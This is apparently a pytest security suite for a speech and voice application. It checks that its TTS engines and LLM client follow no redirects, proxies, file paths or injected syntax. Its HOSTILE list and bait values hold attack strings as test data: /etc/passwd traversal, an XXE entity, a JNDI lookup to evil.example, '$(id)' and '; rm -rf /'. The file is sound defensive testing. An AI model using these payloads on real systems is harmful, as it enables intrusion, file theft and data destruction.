"""Speech servers, models and callers are not trusted: whatever they say, no file is read, no other address is reached.

Python itself is the witness (`tests/support/audit.py`): it tells of each file before it is opened, and of each address
before it is connected to.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from pydantic import ValidationError
from tests.support.audit import Touched, watching
from tests.support.client import listening
from tests.support.server import PATIENCE_S, ScriptedModel, running_server
from tests.support.speech_servers import Exchange, serving
from tests.support.xtts_engine import each_kind, say, speaking
from tests.support.xtts_servers import Kind

from unavoce.cores import Cores
from unavoce.engines.base import EngineContext
from unavoce.engines.registry import create_engine
from unavoce.errors import EngineError, ModelError, SettingsError
from unavoce.llm.base import Message
from unavoce.llm.openai import OpenAIModel
from unavoce.llm.options import LlmSettings
from unavoce.text.kind import Kind as Block
from unavoce.text.spoken import speakable

CANARY = "canary-in-a-file"
URL_ENTRIES = {"xtts": "url", "piper-http": "url", "openai": "base_url", "elevenlabs": "base_url"}
ENGINES = [*URL_ENTRIES, "llm"]


@dataclass(slots=True)
class Elsewhere:
    """Where nobody may go: a server of somebody else, and a file on this machine."""

    url: str
    file: Path
    visits: list[str]

    def untouched(self, touched: Touched, server: str) -> None:
        """Nothing but `server` was reached, and no file of this machine was looked at."""
        assert self.visits == []
        port = urlsplit(server).port
        assert set(touched.addresses) <= {("127.0.0.1", port)}
        assert not [name for name in touched.names if name not in ("127.0.0.1", "localhost")]
        assert not [name for name in touched.files if CANARY in name or "/etc/passwd" in name]
        assert touched.programs == []


@asynccontextmanager
async def elsewhere(data_dir: Path) -> AsyncIterator[Elsewhere]:
    visits: list[str] = []

    async def visited(exchange: Exchange) -> None:
        visits.append(exchange.path)
        await exchange.say({})

    file = data_dir / f"{CANARY}.wav"
    file.write_bytes(b"RIFF")
    async with serving(visited) as url:
        yield Elsewhere(url, file, visits)


async def ask(name: str, url: str) -> None:
    """Start the engine or model at `url` and let it speak; whatever it says to that is one of its own errors."""
    with suppress(EngineError, ModelError):
        async with asyncio.timeout(PATIENCE_S):
            await (_ask_model(url) if name == "llm" else _ask_engine(name, url))


async def _ask_engine(name: str, url: str) -> None:
    section: dict[str, object] = {URL_ENTRIES[name]: url}
    if name == "elevenlabs":
        section |= {"api_key": "k", "voice": "a" * 20}
    engine = await asyncio.to_thread(create_engine, name, section, EngineContext(Path("/nonexistent"), Cores()))
    try:
        with suppress(EngineError):
            await engine.start()
        for voice in engine.voices()[:3]:
            with suppress(EngineError):
                await engine.synthesise("Good evening, sir.", voice, lambda _: None)
    finally:
        await engine.close()


async def _ask_model(url: str) -> None:
    model = OpenAIModel(LlmSettings(base_url=url, model="m"))
    try:
        await model.start()
        async for _ in model.stream([Message("user", "Good evening.")]):
            pass
    finally:
        await model.close()


# -- what servers answer

REDIRECTS: dict[str, Callable[[Elsewhere], str]] = {
    "another server": lambda there: f"{there.url}/x",
    "another server, without a scheme": lambda there: there.url.removeprefix("http:") + "/x",
    "a file": lambda there: there.file.as_uri(),
    "the cloud's own address": lambda _: "http://169.254.169.254/latest/meta-data/",
    "gopher": lambda there: there.url.replace("http", "gopher") + "/_x",
}


@pytest.mark.parametrize("name", ENGINES)
@pytest.mark.parametrize("where", REDIRECTS)
async def test_no_redirect_leads_away(data_dir: Path, name: str, where: str) -> None:
    """Sent elsewhere with any status of a redirect, by header or by body, no engine and no model goes there."""
    async with elsewhere(data_dir) as there:
        location = REDIRECTS[where](there)
        statuses = iter([301, 302, 303, 307, 308] * 100)

        async def away(exchange: Exchange) -> None:
            refresh = f"0; url={location}"
            link = f"<{location}>; rel=preload"
            await exchange.head(next(statuses), "text/html", location=location, refresh=refresh, link=link)
            await exchange.part(f'<meta http-equiv="refresh" content="{refresh}"><img src="{location}">'.encode())
            await exchange.end()

        async with serving(away) as url:
            with watching() as touched:
                await ask(name, url)
            there.untouched(touched, url)


@pytest.mark.parametrize("name", ENGINES)
async def test_no_address_in_an_answer_is_followed(data_dir: Path, name: str) -> None:
    """Answers full of addresses and paths where names, voices, speakers and sounds should be are only text."""
    async with elsewhere(data_dir) as there:
        bait = [f"{there.url}/x", there.file.as_uri(), str(there.file), "/etc/passwd", "../../etc/passwd", "$(id)"]

        async def baited(exchange: Exchange) -> None:
            await exchange.say(_full_of(bait, exchange.path))

        async with serving(baited) as url:
            with watching() as touched:
                await ask(name, url)
            there.untouched(touched, url)


def _full_of(bait: list[str], path: str) -> Any:
    """An answer of every shape that some server gives, with bait in every place."""
    names = ("url", "audio", "audio_url", "file", "path", "wav", "preview_url", "speaker_wav", "name", "id", "voice_id")
    entry = dict(zip(names, bait * 2, strict=False))
    if "speakers" in path or "languages" in path:
        embedding = {"speaker_embedding": [0.1], "gpt_cond_latent": [[0.1]]}
        return {**dict.fromkeys(bait, embedding), "languages": {"English": "en"}}
    lists = {key: [entry, *bait] for key in ("voices", "speakers", "data", "models", "languages")}
    return {**entry, **lists, "choices": [{"delta": {"content": bait[0]}, "message": {"content": bait[0]}}]}


@pytest.mark.parametrize("name", ENGINES)
async def test_no_proxy_of_the_environment_gets_between(
    data_dir: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What goes to a server on this machine goes there, whatever the environment says of proxies."""
    async with elsewhere(data_dir) as there, serving(lambda exchange: exchange.say({})) as url:
        for variable in ("HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy", "HTTPS_PROXY"):
            monkeypatch.setenv(variable, there.url)
        with watching() as touched:
            await ask(name, url)
        there.untouched(touched, url)


@pytest.mark.parametrize("name", ENGINES)
async def test_no_cookie_is_kept(name: str) -> None:
    """A server that sets cookies with every answer gets none back, and so cannot fill the memory with them."""
    sent: list[str] = []

    async def sticky(exchange: Exchange) -> None:
        sent.append(exchange.headers.get("cookie", ""))
        await exchange.head(200, "application/json", set_cookie=f"c{len(sent)}={'x' * 3_000}; Path=/")
        await exchange.part(b"{}")
        await exchange.end()

    async with serving(sticky) as url:
        for _ in range(2):
            await ask(name, url)
    assert len(sent) >= 2
    assert set(sent) == {""}


ODD_URLS = [
    *("file:///etc/passwd", "ftp://127.0.0.1/x", "gopher://127.0.0.1/x", "javascript:alert(1)", "//127.0.0.1/x"),
    *("/etc/passwd", "unix:///run/x.sock", "http+unix://x", "http://", "http:///etc/passwd", "data:,x", "http:/x", ""),
    *("jar:http://127.0.0.1!/x", "http://127.0.0.1/?x=http://b", "http://127.0.0.1/#x", "http://a b/", "http://a\n.b"),
]


@pytest.mark.parametrize("name", ENGINES)
@pytest.mark.parametrize("url", ODD_URLS)
def test_only_addresses_over_http_are_taken(name: str, url: str) -> None:
    """Another scheme, a path, or what is no address stops the start with the setting's name."""
    if name == "llm":
        with pytest.raises(ValidationError):
            LlmSettings(base_url=url, model="m")
        return
    section: dict[str, object] = {URL_ENTRIES[name]: url}
    if name == "elevenlabs":
        section |= {"api_key": "k", "voice": "a" * 20}
    with pytest.raises(SettingsError, match=f"{name.replace('-', '_')}.{URL_ENTRIES[name]}"):
        create_engine(name, section, EngineContext(Path("/nonexistent"), Cores()))


# -- what models and callers write

HOSTILE = [
    "/etc/passwd",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "Say [[h@'loU]] and [[ |id ]] now.",
    "<speak><audio src='file:///etc/passwd'/></speak> Done.",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x> Done.',
    "Hello&speaker_wav=/etc/passwd&speaker_id=other#x?text=none",
    "%2e%2e%2fetc%2fpasswd %00 {{7*7}} ${jndi:ldap://evil.example/x} $(id) `id` ; rm -rf /",
]


@each_kind
async def test_a_text_cannot_become_part_of_the_question(kind: Kind) -> None:
    """To every kind of XTTS server a text goes whole, in the place for texts, whatever looks like syntax in it."""
    async with speaking(kind, {"speaker": "Uta Obando"}) as (engine, server):
        for text in HOSTILE:
            with suppress(EngineError):  # the stand-in's sound may be implausibly long or short for it
                await say(engine, text)
        assert _marks("".join(server.model.spoken)) == _marks("".join(HOSTILE))
        assert not any("[" in text or "<" in text for text in server.model.spoken), "XTTS's own syntax"


def _marks(text: str) -> str:
    """Its letters, and what means something in an address or a shell."""
    return "".join(char for char in text if char.isalnum() or char in "&=?#%/$`;:")


def test_no_syntax_of_an_engine_is_left_in_what_is_spoken() -> None:
    """Tags, entities and raw phonemes are gone from the spoken form, so that no engine takes them for its own."""
    for text in HOSTILE:
        spoken = speakable(text, Block.PROSE, "en")
        assert not any(mark in spoken for mark in ("[[", "]]", "<", "&y;")), spoken


async def test_piper_reads_no_file_that_a_text_names(data_dir: Path) -> None:
    """The real voice speaks each of them, and meanwhile nothing on disk is opened but the voice itself."""
    engine = await asyncio.to_thread(create_engine, "piper", {}, EngineContext(data_dir, Cores(2)))
    await engine.start()
    try:
        with watching() as touched:
            for text in HOSTILE:
                await engine.synthesise(text, engine.voices()[0], lambda _: None)
    finally:
        await engine.close()
    assert not [name for name in touched.files if "passwd" in name or CANARY in name]
    assert touched.addresses == touched.programs == []


async def test_a_voices_name_is_never_a_path(data_dir: Path) -> None:
    """Whatever a caller names as its voice is looked up in a list: unknown, and no file is opened, in any form."""
    secret = data_dir / f"{CANARY}.onnx"
    secret.write_bytes(b"x")
    names = [str(secret), f"../{CANARY}", f"../data/{CANARY}.onnx", secret.as_uri(), "/etc/passwd"]
    names += ["fake/../../x", "..", "a\x00b"]
    async with (
        running_server(data_dir) as server,
        listening(server.url) as listener,
        httpx.AsyncClient(base_url=server.url, timeout=PATIENCE_S) as client,
    ):
        with watching() as touched:
            for name in names:
                for event in ({"message": "Hello", "voice": name}, {"message": "Hello", "voice": f"fake/{name}"}):
                    assert await listener.refused("chat:send", event) == "unknown_voice"
                assert await listener.refused("speak:start", {"voice": name}) == "unknown_voice"
                for field in ("voice", "model"):
                    wish = {"model": "tts-1", "voice": "alloy", "input": "Hello.", field: name}
                    assert (await client.post("/v1/audio/speech", json=wish)).is_client_error
        assert not [name for name in touched.files if CANARY in name or "passwd" in name]


async def test_a_reply_of_paths_and_tags_is_only_spoken(data_dir: Path) -> None:
    """A model that answers with all of them, and a client that streams them: text comes back, nothing is touched."""
    model = ScriptedModel(otherwise=[text + "\n\n" for text in HOSTILE])
    async with running_server(data_dir, model=model) as server, listening(server.url) as listener:
        with watching() as touched:
            _, reply = await listener.say("Hello")
            await listener.end(reply)
            streamed = (await listener.ok("speak:start", {}))["replyId"]
            for text in HOSTILE:
                await listener.ok("speak:text", {"replyId": streamed, "text": text})
            await listener.ok("speak:end", {"replyId": streamed})
            await listener.end(streamed)
        assert not [name for name in touched.files if CANARY in name or "passwd" in name]
        assert touched.addresses == touched.names == touched.programs == []
        assert json.loads(json.dumps(listener.payloads(reply, "chat:done")[0]["text"])).count("/etc/passwd") >= 4
